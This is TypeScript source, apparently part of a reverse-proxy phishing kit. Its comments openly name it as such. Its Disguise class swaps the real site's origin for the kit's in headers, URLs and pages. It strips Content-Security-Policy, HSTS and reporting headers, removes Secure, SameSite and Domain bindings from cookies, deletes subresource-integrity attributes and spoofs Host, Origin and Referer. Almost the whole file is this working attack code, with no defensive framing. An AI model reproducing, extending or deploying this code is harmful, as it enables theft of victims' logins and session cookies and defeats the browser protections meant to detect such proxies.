/** Headers that would tell the victim's browser to distrust the copy, or to report it. */
const ARMOUR = new Set([
  'content-security-policy',
  'content-security-policy-report-only',
  'strict-transport-security',
  'reporting-endpoints',
  'report-to',
  'nel',
]);
/** Headers that belong to one connection (RFC 9110, 7.6.1), or to a body that is about to change. */
const OF_ONE_CONNECTION = new Set(['connection', 'keep-alive', 'transfer-encoding', 'content-length']);
const COOKIE_BINDINGS = /;\s*(?:domain|samesite)\s*=[^;]*|;\s*(?:secure|partitioned)(?=\s*(?:;|$))/gi;
const IN_MARKUP = / integrity="[^"]*"|<meta[^>]+http-equiv="?content-security-policy"?[^>]*>/gi;

type Spelling = (origin: string) => string;

/** The ways to write an origin: as it is, relative to the scheme, in JSON with escaped slashes, in a query or form. */
const SPELLINGS: readonly Spelling[] = [
  (origin) => origin,
  (origin) => origin.replace(/^https?:/, ''),
  (origin) => origin.replaceAll('/', '\\/'),
  (origin) => encodeURIComponent(origin),
];

type Header = readonly [name: string, value: string];

/**
 * What a phishing kit changes in passing, so that the site takes the kit for its own page and the victim's browser
 * takes the kit for the site: it puts one origin in place of the other everywhere, and removes the protections that
 * would notice.
 */
export class Disguise {
  readonly #targetHost: string;
  readonly #towardsTarget: (text: string) => string;
  readonly #towardsVictim: (text: string) => string;

  constructor(origins: { target: string; proxy: string }) {
    this.#targetHost = new URL(origins.target).host;
    this.#towardsTarget = replacing(origins.proxy, origins.target);
    this.#towardsVictim = replacing(origins.target, origins.proxy);
  }

  /** The victim's headers as the target wants them: its own Host, Origin and Referer, and nothing compressed. */
  requestHeaders(headers: readonly Header[]): [string, string][] {
    const kept = headers.filter(
      ([name]) => !['host', 'accept-encoding'].includes(name) && !OF_ONE_CONNECTION.has(name),
    );
    return [
      ...kept.map(([name, value]): [string, string] => [name, this.#towardsTarget(value)]),
      ['host', this.#targetHost],
      ['accept-encoding', 'identity'],
    ];
  }

  /** A path with its query, or a body, on its way to the target. */
  requestText(text: string): string {
    return this.#towardsTarget(text);
  }

  /** The target's headers for the victim: redirects lead to the kit, cookies hold there, protections are gone. */
  responseHeaders(headers: readonly Header[]): [string, string][] {
    return headers
      .filter(([name]) => !ARMOUR.has(name) && !OF_ONE_CONNECTION.has(name))
      .map(([name, value]) => [
        name,
        this.#towardsVictim(name === 'set-cookie' ? value.replaceAll(COOKIE_BINDINGS, '') : value),
      ]);
  }

  /** A page, script or style sheet for the victim. */
  responseText(text: string): string {
    return this.#towardsVictim(text).replaceAll(IN_MARKUP, '');
  }
}

function replacing(from: string, to: string): (text: string) => string {
  const pairs = SPELLINGS.map((spell) => {
    const written = spell(from).replaceAll(/[.*+?^${}()|[\]\\]/g, '\\$&');
    // Another host or port may begin with the same letters.
    return { pattern: new RegExp(`${written}(?![\\w:-]|\\.\\w)`, 'gi'), replacement: spell(to) };
  });
  return (text) => pairs.reduce((result, { pattern, replacement }) => result.replaceAll(pattern, replacement), text);
}
